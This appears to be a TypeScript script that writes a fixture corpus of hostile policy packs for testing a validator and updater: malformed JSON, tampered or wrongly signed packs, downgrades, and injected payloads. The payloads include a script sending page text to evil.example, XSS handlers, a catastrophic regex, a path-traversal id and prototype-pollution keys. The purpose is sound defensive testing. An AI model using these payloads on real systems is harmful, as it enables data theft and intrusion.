// `npx tsx scripts/make-hostile-packs.ts`: writes the hostile-pack corpus in
// tests/fixtures/packs/ (committed; rerun only to change it). Each case is a
// file plus an entry in cases.json saying how it is fed to `postcheck validate`
// and to the updater, and the reason each must give.
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { bundledPackSource } from '../rules/packs/index';
import { generateSigningKeys, signPackBytes, toBase64 } from '../rules/signed-pack';

const DIR = path.resolve('tests/fixtures/packs');
const KEYS = path.join(DIR, 'keys');
mkdirSync(KEYS, { recursive: true });

type Json = Record<string, unknown>;
interface Case {
  file: string;
  what: string;
  /** How the updater receives it: the file as served, or the pack signed with the test key first. */
  serve: 'as-is' | 'sign-first';
  /** Extra arguments for `postcheck validate`. */
  validateArgs?: ('--public-key' | '--fit')[];
  reason: string;
  updaterReason?: string;
}

async function testKeys(name: string): Promise<{ privatePkcs8: Uint8Array; publicSpkiBase64: string }> {
  const file = path.join(KEYS, `${name}.json`);
  if (existsSync(file)) {
    const saved = JSON.parse(readFileSync(file, 'utf8')) as { privatePkcs8: string; publicSpkiBase64: string };
    return { privatePkcs8: Uint8Array.from(Buffer.from(saved.privatePkcs8, 'base64')), publicSpkiBase64: saved.publicSpkiBase64 };
  }
  const keys = await generateSigningKeys();
  writeFileSync(file, `${JSON.stringify({ note: 'TEST KEY for the hostile-pack corpus only; never used for real packs.', privatePkcs8: toBase64(keys.privatePkcs8), publicSpkiBase64: keys.publicSpkiBase64 }, null, 2)}\n`);
  return keys;
}

/** A small valid pack: Alexandria's confidential-marker rule and the clauses it cites, version 5. */
function basePack(): Json {
  const full = structuredClone(bundledPackSource('alexandria')) as Json & {
    policies: { id: string; clauses: { section: string }[] }[];
    rules: { id: string; clauses: { policy: string; section: string }[] }[];
  };
  const rule = full.rules.find((r) => r.id === 'confidential-marker')!;
  const cited = new Set(rule.clauses.map((c) => `${c.policy}#${c.section}`));
  const policies = full.policies
    .map((p) => ({ ...p, clauses: p.clauses.filter((c) => cited.has(`${p.id}#${c.section}`)) }))
    .filter((p) => p.clauses.length);
  return { ...full, version: 5, policies, rules: [rule], notCheckable: [] };
}

const mutate = (change: (p: Json & { rules: Json[]; policies: Json[] }) => void): Json => {
  const p = basePack() as Json & { rules: Json[]; policies: Json[] };
  change(p);
  return p;
};
const firstRule = (p: { rules: Json[] }) => p.rules[0] as Json & { detector: Json; clauses: Json[] };
const firstClause = (p: { policies: Json[] }) => (p.policies[0] as { clauses: Json[] }).clauses[0] as Json;

const cases: Case[] = [];
const write = (file: string, body: string | Uint8Array, entry: Omit<Case, 'file'>) => {
  writeFileSync(path.join(DIR, file), body);
  cases.push({ file, ...entry });
};
const schemaCase = (file: string, what: string, pack: unknown, reason: string) =>
  write(file, JSON.stringify(pack), { what, serve: 'sign-first', reason });

/** The oversized case: a valid-looking pack over the size limit. */
export function oversizedPack(): string {
  return JSON.stringify(mutate((p) => ((p.lexicon as Json).cityNames = Array.from({ length: 40_000 }, (_, i) => `Alexandria district number ${i} of the greater metropolitan area`))));
}

const main = async () => {
  const key = await testKeys('test-key');
  const other = await testKeys('other-key');
  const sign = async (pack: unknown, k = key) => JSON.stringify(await signPackBytes(new TextEncoder().encode(JSON.stringify(pack)), k.privatePkcs8));
  writeFileSync(path.join(DIR, 'base.json'), `${JSON.stringify(basePack(), null, 2)}\n`);

  // Not a pack at all.
  write('not-json.json', 'version=6\nrules=all', { what: 'not JSON', serve: 'as-is', reason: 'not JSON' });
  write('html-error-page.json', '<!doctype html><html><body><h1>502 Bad Gateway</h1></body></html>', { what: 'an HTML error page', serve: 'as-is', reason: 'not JSON', updaterReason: 'web page' });
  write('invalid-utf8.json', Uint8Array.from([0x7b, 0x22, 0x69, 0x64, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d]), { what: 'invalid UTF-8', serve: 'as-is', reason: 'UTF-8' });
  write('null.json', 'null', { what: 'JSON null', serve: 'as-is', reason: 'expected object', updaterReason: 'not a signed PostCheck pack' });
  write('top-level-array.json', '[{"id":"alexandria"}]', { what: 'a JSON array', serve: 'as-is', reason: 'expected object', updaterReason: 'not a signed PostCheck pack' });
  write('deeply-nested.json', `{"id":"alexandria","lexicon":{"cityNames":${'['.repeat(100_000)}${']'.repeat(100_000)}}}`, { what: '100,000 nested arrays', serve: 'as-is', reason: 'not JSON|expected', updaterReason: 'not JSON|not a signed' });
  // Too big to commit: the test writes it (oversizedPack below) before running the case.
  cases.push({ file: 'oversized.json', what: 'a 3 MB pack (written by the test)', serve: 'as-is', reason: 'larger than', updaterReason: 'too large' });

  // Valid JSON, invalid pack (the updater gets each one signed with the right key: a signature is not a licence).
  schemaCase('missing-policies.json', 'no policies', mutate((p) => delete (p as Json).policies), 'policies');
  schemaCase('empty-rules.json', 'no rules', mutate((p) => (p.rules = [])), 'rules');
  schemaCase('unknown-detector.json', 'an unknown detector kind', mutate((p) => (firstRule(p).detector = { kind: 'javascript', code: 'fetch(1)' })), 'detector');
  schemaCase('regex-catastrophic.json', 'a catastrophic regex ((a+)+$)', mutate((p) => (firstRule(p).detector = { ...firstRule(p).detector, pattern: '(a+)+$' })), 'pattern');
  schemaCase('missing-clause.json', 'a rule citing a clause the pack lacks', mutate((p) => (firstRule(p).clauses = [{ policy: 'employee', section: '99.9' }])), 'does not contain');
  schemaCase('script-in-clause.json', '<script> in clause text', mutate((p) => (firstClause(p).text = 'Be courteous.<script>fetch("https://evil.example/?d="+document.body.innerText)</script>')), 'plain text');
  schemaCase('html-in-message.json', 'an <img onerror> in a message', mutate((p) => (firstRule(p).message = 'Careful <img src=x onerror=alert(1)>')), 'plain text');
  schemaCase('html-in-contact.json', 'a link in the contact line', mutate((p) => (p.contact = '<a href="javascript:alert(1)">Ask IT</a>')), 'plain text');
  schemaCase('html-in-summary.json', 'markup in a summary', mutate((p) => (firstClause(p).summary = '<b onmouseover=alert(1)>Never</b> share')), 'plain text');
  schemaCase('bidi-override-message.json', 'a right-to-left override hiding text', mutate((p) => (firstRule(p).message = 'Fine to post \u202etsop ot enif toN')), 'text-direction');
  schemaCase('nul-in-id.json', 'a NUL byte in the id', mutate((p) => (p.id = 'alexandria\u0000')), 'lower-case');
  schemaCase('path-in-id.json', 'a path as the id', mutate((p) => (p.id = '../../etc/passwd')), 'lower-case');
  schemaCase('constructor-key.json', 'a "constructor" key in a rule', mutate((p) => Object.defineProperty(firstRule(p), 'constructor', { value: { prototype: { polluted: true } }, enumerable: true })), 'constructor');
  schemaCase('string-version.json', 'the version as a string', mutate((p) => (p.version = '6')), 'version');
  schemaCase('negative-version.json', 'a negative version', mutate((p) => (p.version = -6)), 'version');
  schemaCase('bad-date.json', 'a date in another format', mutate((p) => (p.date = '21/11/2026')), 'date');
  schemaCase('unknown-severity.json', 'an unknown severity', mutate((p) => (firstRule(p).severity = 'catastrophic')), 'severity');
  schemaCase('unknown-category.json', 'an unknown category', mutate((p) => (firstRule(p).category = 'everything')), 'category');
  schemaCase('duplicate-rule.json', 'two rules with one id', mutate((p) => p.rules.push(structuredClone(firstRule(p)))), 'duplicate rule id');
  schemaCase('duplicate-section.json', 'two clauses with one section', mutate((p) => (p.policies[0] as { clauses: Json[] }).clauses.push(structuredClone(firstClause(p)))), 'duplicate section');
  schemaCase('clause-too-long.json', 'a 20,001-character clause', mutate((p) => (firstClause(p).text = 'a'.repeat(20_001))), '20000');
  schemaCase('too-many-rules.json', '501 rules', mutate((p) => (p.rules = Array.from({ length: 501 }, (_, i) => ({ ...firstRule(p), id: `rule-${i}`, examples: { match: ['confidential'] } })))), '500');
  // "__proto__" must be written as JSON text: in an object literal it would set the prototype instead.
  write('proto-key.json', JSON.stringify(basePack()).replace(/^\{/, '{"__proto__":{"polluted":true},'), { what: 'a "__proto__" key', serve: 'sign-first', reason: '__proto__' });

  // Signed packs that are not what they claim (validate needs --public-key).
  const tampered = JSON.parse(await sign(mutate((p) => (p.version = 6)))) as Json;
  tampered.payload = Buffer.from(Buffer.from(String(tampered.payload), 'base64').toString('utf8').replace('Ask your supervisor', 'Ask Mallory')).toString('base64');
  write('tampered-signature.signed.json', JSON.stringify(tampered), { what: 'a pack changed after signing', serve: 'as-is', validateArgs: ['--public-key'], reason: 'signature does not match' });
  write('wrong-key.signed.json', await sign(mutate((p) => (p.version = 6)), other), { what: 'signed with another key', serve: 'as-is', validateArgs: ['--public-key'], reason: 'signature does not match' });
  write('unsigned.json', JSON.stringify(mutate((p) => (p.version = 6))), { what: 'a valid pack without a signature', serve: 'as-is', validateArgs: ['--public-key'], reason: 'not signed' });
  const badSig = JSON.parse(await sign(mutate((p) => (p.version = 6)))) as Json;
  badSig.signature = 'not base64 at all!';
  write('bad-signature-encoding.signed.json', JSON.stringify(badSig), { what: 'a signature that is not base64', serve: 'as-is', validateArgs: ['--public-key'], reason: 'not a signed PostCheck pack' });
  const whole = await sign(mutate((p) => (p.version = 6)));
  write('truncated.signed.json', whole.slice(0, Math.floor(whole.length / 2)), { what: 'a download cut in half', serve: 'as-is', validateArgs: ['--public-key'], reason: 'not JSON' });

  // Signed and valid, but not for this installation (version 5 installed, city alexandria).
  write('downgrade.signed.json', await sign(mutate((p) => (p.version = 4))), { what: 'an older version', serve: 'as-is', validateArgs: ['--public-key', '--fit'], reason: 'not newer' });
  write('replay.signed.json', await sign(mutate((p) => (p.contact = 'Ask Bob in IT before posting.'))), { what: 'another pack with the installed version', serve: 'as-is', validateArgs: ['--public-key', '--fit'], reason: 'not newer' });
  write('wrong-city.signed.json', await sign(mutate((p) => ((p.id = 'vicksburg'), (p.version = 9)))), { what: 'another city’s pack', serve: 'as-is', validateArgs: ['--public-key', '--fit'], reason: 'not the configured "alexandria"' });

  writeFileSync(path.join(DIR, 'cases.json'), `${JSON.stringify({ installed: { packId: 'alexandria', version: 5 }, cases }, null, 2)}\n`);
  console.log(`${cases.length} hostile packs written to ${DIR}`);
};

if (process.argv[1]?.endsWith('make-hostile-packs.ts')) await main();
